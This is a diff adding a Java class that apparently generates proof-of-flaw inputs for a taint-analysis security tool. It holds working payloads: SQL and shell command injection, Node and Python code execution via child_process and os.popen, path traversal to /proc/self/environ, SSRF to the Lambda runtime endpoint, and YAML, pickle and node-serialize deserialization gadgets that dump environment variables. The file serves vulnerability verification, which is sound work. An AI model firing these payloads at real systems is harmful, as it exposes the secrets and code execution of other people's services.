@@ -1,0 +1,92 @@
+package dev.merlon.analysis.taint;
+
+import dev.merlon.knowledge.SinkKind;
+
+/// What to send to show a flaw: text that does something else than the program meant, and that the
+/// trigger can carry.
+///
+/// @param field the field that carries it
+/// @param call the library call that is the sink
+/// @param shape the text around the data, with `\u0000` where it stands
+record Payload(EventPath field, SinkKind sink, String call, String shape, boolean isPython) {
+
+  String text() {
+    String text = text(before());
+    // Cognito's names have no blanks: `[\p{L}\p{M}\p{S}\p{N}\p{P}]+` in its API reference.
+    return field.keys().equals(java.util.List.of("userName")) ? withoutBlanks(text) : text;
+  }
+
+  private String withoutBlanks(String text) {
+    return sink == SinkKind.SQL ? text.replace(" ", "/**/") : text.replace(" ", "");
+  }
+
+  private char before() {
+    int at = shape.indexOf('\u0000');
+    return at > 0 ? shape.charAt(at - 1) : ' ';
+  }
+
+  private boolean isPart() {
+    return shape.indexOf('\u0000') >= 0;
+  }
+
+  private String text(char before) {
+    return switch (sink) {
+      case SQL -> sql(before);
+      case COMMAND -> before == '\'' ? "x'; env; '" : before == '"' ? "x\"; env; \"" : "x; env";
+      case CODE ->
+          isPython
+              ? "__import__('os').popen('env').read()"
+              : "process.mainModule.require('child_process').execSync('env').toString()";
+      case PATH -> "../../../../proc/self/environ";
+      // Behind a host, `@` makes what stood before a user name.
+      case REQUEST ->
+          (shape.indexOf('\u0000') > 0 ? "@" : "http://")
+              + "127.0.0.1:9001/2018-06-01/runtime/invocation/next";
+      case DESERIALIZATION -> isPython ? pythonObject() : javaScriptObject();
+    };
+  }
+
+  private String sql(char before) {
+    if (!isPart()) {
+      return "SELECT * FROM users";
+    }
+    return switch (before) {
+      case '\'' -> "x' OR '1'='1";
+      case '"' -> "x\" OR \"1\"=\"1";
+      case '%' -> "%' OR '1'='1";
+      default -> "0 OR 1=1";
+    };
+  }
+
+  private String pythonObject() {
+    if (call.startsWith("yaml.")) {
+      return "!!python/object/apply:os.system ['env']";
+    }
+    if (call.startsWith("jsonpickle.")) {
+      return "{\"py/reduce\": [{\"py/function\": \"os.system\"}, {\"py/tuple\": [\"env\"]}]}";
+    }
+    // Protocol 0, which is plain text: the function `os.system`, a mark, the text, a tuple, a call.
+    return "cos\nsystem\n(S'env'\ntR.";
+  }
+
+  // The name of the field that holds the function is of no account.
+  private String javaScriptObject() {
+    return call.startsWith("js-yaml.")
+        ? "!!js/function 'function () { " + RUN + " }'"
+        : call.startsWith("funcster.")
+            ? "{\"x\":{\"__js_function\":\"function () { " + RUN + " }()\"}}"
+            : "{\"x\":\"" + javaScriptFunction() + "\"}";
+  }
+
+  private static final String RUN = "require('child_process').execSync('env')";
+
+  /// What node-serialize runs when it stands in a field of an object.
+  static String javaScriptFunction() {
+    return "_$$ND_FUNC$$_function () { " + RUN + " }()";
+  }
+
+  /// The text for a field of an object that is itself restored.
+  String ofField() {
+    return sink == SinkKind.DESERIALIZATION && !isPython ? javaScriptFunction() : text();
+  }
+}
